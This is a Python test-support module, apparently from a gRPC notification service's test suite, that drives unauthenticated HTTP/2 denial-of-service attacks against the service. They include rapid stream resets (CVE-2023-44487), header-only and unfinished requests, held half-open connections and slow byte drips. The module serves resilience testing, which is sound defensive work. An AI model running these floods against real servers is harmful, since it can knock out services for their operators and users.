"""Attacks that need no token. Each is bounded in streams or connections; the caller ends it in time."""

import asyncio
from collections.abc import Callable, Coroutine, Iterable
from contextlib import suppress
from functools import partial
from itertools import cycle, islice
from typing import Any, Final

from tests.support.http2 import frames
from tests.support.http2.call import framed, request_headers
from tests.support.http2.stranger import Stranger, Target

SEND: Final = "/unisono.v1.NotificationService/SendNotification"

#: Methods whose requests are reset at once: one that needs a token, one that needs none, an unknown one.
PATHS: Final = (SEND, "/grpc.health.v1.Health/Check", "/unisono.v1.Nowhere/Nothing")

#: Called once the attack is in place.
Begun = Callable[[], None]

#: Streams on one connection.
STREAMS: Final = 300

#: Connections that are held: of those that do not come back, and of those that do.
FEW: Final = 100
MANY: Final = 400

#: What a small request announces, in bytes.
SMALL: Final = 64 * 1024

#: How many streams are written at a time.
_CONCURRENCY: Final = 100

#: After how many seconds an attack counts as being in place, though it could not send all of it.
_SOON_SECONDS: Final = 10.0

#: The pause between two attempts, or two bytes, in seconds.
_AGAIN: Final = 0.25


async def resets(target: Target, begun: Begun) -> None:
    """Begin requests and reset them at once (CVE-2023-44487), on one connection after another."""
    await again(partial(_reset, target, begun), begun)


async def _reset(target: Target, begun: Begun) -> None:
    stranger = await Stranger.open(target)
    while not stranger.closed.is_set():
        await _reset_some(stranger)
        begun()


async def _reset_some(stranger: Stranger) -> None:
    for path in islice(cycle(PATHS), _CONCURRENCY):
        stream_id = stranger.ask(path)
        stranger.say(frames.frame(frames.DATA, 0, stream_id, framed(b"")))
        stranger.say(frames.given_up(stream_id))
    await stranger.drained()


async def again(attack: Callable[[], Coroutine[Any, Any, None]], begun: Begun) -> None:
    """Repeat an attack for ever; it has begun also when the connection is refused."""
    while True:
        with suppress(OSError):
            await attack()
        begun()
        await asyncio.sleep(_AGAIN)


async def headers(target: Target, begun: Begun) -> None:
    """Send only the headers of requests, on one connection; ends when the server has ended them all."""
    stranger = await Stranger.open(target)
    streams = [stranger.ask(SEND) for _ in range(STREAMS)]
    begun()
    await _until_ended(stranger, streams)


async def small_bodies(target: Target, begun: Begun) -> None:
    """Send requests of 64 KiB without their last byte; ends when the server has ended them all."""
    await unfinished(target, begun, SEND, SMALL)


async def unfinished(target: Target, begun: Begun, path: str, size: int, token: str = "") -> None:
    """Send requests of `size` bytes without their last byte, on one connection, until all are ended."""
    stranger = await Stranger.open(target)
    body = framed(bytes(size))[:-1]
    streams = [stranger.ask(path, token) for _ in range(STREAMS)]
    pouring = [asyncio.create_task(stranger.pour(stream_id, body)) for stream_id in streams]
    await asyncio.wait(pouring, timeout=_SOON_SECONDS)
    begun()
    await _until_ended(stranger, streams)


async def _until_ended(stranger: Stranger, streams: Iterable[int]) -> None:
    with suppress(ConnectionError):
        for stream_id in streams:
            await stranger.until_ended(stream_id)


async def held(target: Target, begun: Begun) -> None:
    """Hold 100 connections that send nothing or half frames; ends when the server has closed them all."""
    openings = islice(cycle(_openings()), FEW)
    await asyncio.gather(*(_hold(target, opening, begun) for opening in openings))


async def held_again(target: Target, begun: Begun) -> None:
    """Hold 400 connections that send nothing, half frames, or a byte at a time, and reconnect for ever."""
    kinds = [*(partial(_hold, target, opening, begun) for opening in _openings()), partial(_drip, target)]
    await asyncio.gather(*(again(kind, begun) for kind in islice(cycle(kinds), MANY)))


def _openings() -> list[bytes]:
    """Return beginnings of connections, after each of which the connection is held."""
    block = request_headers(SEND, "unisono.test", "")
    whole = frames.frame(frames.HEADERS, frames.END_HEADERS, 1, block)
    return [
        b"",
        frames.PREFACE[: len(frames.PREFACE) // 2],
        frames.greeting(),
        frames.greeting() + whole[: len(whole) // 2],
        frames.greeting() + frames.frame(frames.HEADERS, 0, 1, block[: len(block) // 2]),
    ]


async def _hold(target: Target, opening: bytes, begun: Begun) -> None:
    stranger = await Stranger.open(target, greets=False)
    stranger.say(opening)
    begun()
    await stranger.closed.wait()


async def _drip(target: Target) -> None:
    stranger = await Stranger.open(target)
    stream_id = stranger.ask(SEND)
    while stream_id not in stranger.ended and not stranger.closed.is_set():
        await stranger.pour(stream_id, b"\0")
        await asyncio.sleep(_AGAIN)
    stranger.abort()
